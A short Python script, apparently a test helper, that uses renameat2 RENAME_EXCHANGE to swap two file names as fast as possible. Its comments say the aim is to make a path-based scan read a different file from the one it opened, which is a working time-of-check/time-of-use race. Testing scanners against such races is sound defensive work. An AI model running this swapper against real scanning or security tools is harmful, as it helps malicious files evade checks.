#!/usr/bin/env python3
# The attacker's name swapper: exchanges two names in one directory atomically (renameat2 RENAME_EXCHANGE)
# as fast as it can, until stdin closes. A scan by path then often reads the other file than the one opened.
import ctypes, os, sys, threading

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
a, b = sys.argv[1].encode(), sys.argv[2].encode()
stop = threading.Event()
threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
print("ready", flush=True)
n = 0
while not stop.is_set():
    if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
        sys.exit("renameat2: " + os.strerror(ctypes.get_errno()))
    n += 1
print(n, flush=True)
